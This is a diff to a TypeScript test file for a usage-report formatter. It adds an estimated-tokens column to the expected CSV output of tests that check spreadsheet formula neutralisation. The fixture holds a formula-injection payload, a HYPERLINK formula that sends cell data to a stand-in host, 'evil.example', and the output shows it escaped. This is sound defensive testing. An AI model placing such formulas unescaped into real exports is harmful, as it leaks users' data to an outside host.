@@ -4,7 +4,7 @@ import { formatReport, neutraliseFormula } from './report-format.js';
 import type { ReportRow, UsageReport } from './usage-report.js';
 
 function row(keys: Record<string, string | null>, costUsd = 0.5): ReportRow {
-  return { keys, calls: 1, requests: 1, blocked: 0, failed: 0, inputTokens: 10, outputTokens: 2, cachedInputTokens: 0, cacheWriteInputTokens: 4, totalTokens: 12, costUsd };
+  return { keys, calls: 1, requests: 1, blocked: 0, failed: 0, inputTokens: 10, outputTokens: 2, cachedInputTokens: 0, cacheWriteInputTokens: 4, totalTokens: 12, estimatedTokens: 2, costUsd };
 }
 
 describe('CSV formula neutralisation', () => {
@@ -35,10 +35,10 @@ describe('CSV formula neutralisation', () => {
       totals: { ...row({}, 0.75), calls: 2 },
     };
     expect(formatReport(report, 'csv').split('\n')).toEqual([
-      'tag:feature,tag:delta,calls,requests,blocked,failed,input_tokens,output_tokens,cached_input_tokens,cache_write_input_tokens,total_tokens,cost_usd',
-      `"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",-1.5,1,1,0,0,10,2,0,4,12,0.500000000`,
-      `'@x,,1,1,0,0,10,2,0,4,12,0.250000000`,
-      'TOTAL,,2,1,0,0,10,2,0,4,12,0.750000000',
+      'tag:feature,tag:delta,calls,requests,blocked,failed,input_tokens,output_tokens,cached_input_tokens,cache_write_input_tokens,total_tokens,estimated_tokens,cost_usd',
+      `"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",-1.5,1,1,0,0,10,2,0,4,12,2,0.500000000`,
+      `'@x,,1,1,0,0,10,2,0,4,12,2,0.250000000`,
+      'TOTAL,,2,1,0,0,10,2,0,4,12,2,0.750000000',
       '',
     ]);
     // Tables and JSON are not spreadsheet input: values stay exactly as recorded.
